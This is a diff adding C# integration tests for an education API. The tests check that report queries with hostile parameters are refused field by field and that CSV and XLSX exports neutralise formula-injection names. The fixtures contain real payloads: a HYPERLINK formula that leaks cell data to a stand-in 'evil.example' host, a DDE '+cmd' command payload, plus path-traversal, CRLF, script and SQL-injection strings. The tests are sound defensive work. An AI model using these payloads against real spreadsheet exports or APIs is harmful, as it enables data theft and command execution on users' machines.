@@ -318,6 +318,102 @@ public sealed class HostileInputTests(ApiHost api) : IClassFixture<ApiHost>
     }
 
     /// <summary>
+    /// The report forms' query (issue 19): a bad term, format or subject is a localized 400 naming each field, with no
+    /// file and no audit row; ?term=year and a junk ?lang= are answered (the header's language).
+    /// </summary>
+    [Theory]
+    [InlineData("progress", "term=0", "term:termOutOfRange")]
+    [InlineData("attendance", "term=year2", "term:termOutOfRange")]
+    [InlineData("progress", "term=%D9%A2", "term:termOutOfRange")]
+    [InlineData("attendance", "format=pdf", "format:formatUnknown")]
+    [InlineData("progress", "format=xlsx%00", "format:formatUnknown")]
+    [InlineData("attendance", "subjectId=%3DHYPERLINK(%22http://evil%22)", "subjectId:idMalformed")]
+    [InlineData("progress", "subjectId=..%2F..&term=7&format=csv%0D%0AX:%20y", "format:formatUnknown,subjectId:idMalformed,term:termOutOfRange")]
+    [InlineData("progress", "term=year&lang=%3Cscript%3E", null)]
+    [InlineData("attendance", "lang=%27%20OR%201=1&format=xlsx", null)]
+    public async Task Hostile_report_queries_are_refused_by_field_or_change_nothing(string form, string query, string? errors)
+    {
+        var node = api.Registry.Data.Nodes.First(n => n.Kind == "district").Id;
+        const string Count = "SELECT count(*) FROM audit_log WHERE action = 'node.report'";
+        var audited = await api.Db.ScalarAsync<long>(Count);
+        using var request = new HttpRequestMessage(HttpMethod.Get, $"/api/v1/nodes/{node}/reports/{form}?{query}");
+        request.Headers.Add(HttpExtensions.ActorHeader, HttpExtensions.Analyst);
+        request.Headers.AcceptLanguage.ParseAdd("en");
+        using var response = await api.Http.SendAsync(request);
+        var body = await response.Content.ReadAsStringAsync();
+        if (errors is null)
+        {
+            Assert.True((int)response.StatusCode == 200, $"{query}: {(int)response.StatusCode} {body}");
+            Assert.Equal("attachment", response.Content.Headers.ContentDisposition?.DispositionType);
+            Assert.Equal(audited + 1, await api.Db.ScalarAsync<long>(Count));
+            return;
+        }
+        Assert.True((int)response.StatusCode == 400, $"{query}: expected 400, got {(int)response.StatusCode} {body}");
+        Assert.Equal("application/problem+json", response.Content.Headers.ContentType?.MediaType);
+        Assert.Null(response.Content.Headers.ContentDisposition);
+        var problem = System.Text.Json.JsonDocument.Parse(body).RootElement;
+        Assert.Equal(EnglishTitles[Validation], problem.GetProperty("title").GetString());
+        Assert.Equal(errors, string.Join(",", Errors(problem).Order(StringComparer.Ordinal)));
+        Assert.All(problem.GetProperty("errors").EnumerateArray(), e => Assert.False(string.IsNullOrEmpty(e.GetProperty("message").GetString())));
+        Assert.Equal(audited, await api.Db.ScalarAsync<long>(Count));
+    }
+
+    private async Task<byte[]> ReportAsync(string path)
+    {
+        using var request = new HttpRequestMessage(HttpMethod.Get, path);
+        request.Headers.Add(HttpExtensions.ActorHeader, HttpExtensions.Analyst);
+        using var response = await api.Http.SendAsync(request);
+        Assert.Equal(200, (int)response.StatusCode);
+        return await response.Content.ReadAsByteArrayAsync();
+    }
+
+    /// <summary>
+    /// A district and a school whose names an import made formulas: the report forms write them as text (a leading
+    /// apostrophe), in the CSV and in the XLSX, where no cell is a formula.
+    /// </summary>
+    [Fact]
+    public async Task Formula_names_in_a_report_are_written_as_text()
+    {
+        const string Hostile = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")";
+        const string Plus = "+cmd|' /C calc'!A0";
+        var district = api.Registry.Data.Nodes.Last(n => n.Kind == "district");
+        var school = api.Registry.Data.Organizations.First(o => o.NodeId == district.Id);
+        var directory = (EduInfo.Api.Registry.NodeDirectory)api.Services.GetService(typeof(EduInfo.Api.Registry.NodeDirectory))!;
+        await api.Db.ExecuteAsync("UPDATE nodes SET name_en = @n WHERE id = @d", ("n", Hostile), ("d", district.Id));
+        await api.Db.ExecuteAsync("UPDATE organizations SET name_en = @n WHERE id = @o", ("n", Plus), ("o", school.Id));
+        directory.Forget(district.Id);
+        directory.Forget(school.Id);
+        try
+        {
+            foreach (var form in new[] { "progress", "attendance" })
+            {
+                var text = System.Text.Encoding.UTF8.GetString(await ReportAsync($"/api/v1/nodes/{district.Id}/reports/{form}?format=csv&lang=en"));
+                Assert.Contains(",\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"Click\"\")\",", text, StringComparison.Ordinal);
+                Assert.Contains(",'+cmd|' /C calc'!A0,", text, StringComparison.Ordinal);
+                Assert.DoesNotContain(",=HYPERLINK", text, StringComparison.Ordinal);
+                Assert.DoesNotContain(",+cmd", text, StringComparison.Ordinal);
+
+                var xlsx = await ReportAsync($"/api/v1/nodes/{district.Id}/reports/{form}?format=xlsx&lang=en");
+                var cells = MiniExcelLibs.MiniExcel.Query(new MemoryStream(xlsx), useHeaderRow: false).Cast<IDictionary<string, object?>>()
+                    .SelectMany(r => r.Values).OfType<string>().ToList();
+                Assert.Contains("'" + Hostile, cells);
+                Assert.Contains("'" + Plus, cells);
+                Assert.DoesNotContain(Hostile, cells);
+                using var zip = new System.IO.Compression.ZipArchive(new MemoryStream(xlsx));
+                Assert.All(zip.Entries.Where(e => e.FullName.EndsWith(".xml", StringComparison.Ordinal)),
+                    e => Assert.DoesNotMatch(@"<(\w+:)?f[\s>/]", new StreamReader(e.Open()).ReadToEnd())); // no formula element anywhere
+            }
+        }
+        finally
+        {
+            await api.Db.ExecuteAsync("UPDATE nodes SET name_en = @n WHERE id = @d", ("n", district.NameEn), ("d", district.Id));
+            await api.Db.ExecuteAsync("UPDATE organizations SET name_en = @n WHERE id = @o", ("n", school.NameEn), ("o", school.Id));
+            directory.Forget(district.Id);
+            directory.Forget(school.Id);
+        }
+    }
+
+    /// <summary>
     /// "Who am I" takes nothing from the request but the caller: junk in the query string changes nothing (an unknown
     /// ?lang= falls back to the header's language), and no query parameter names another person.
     /// </summary>
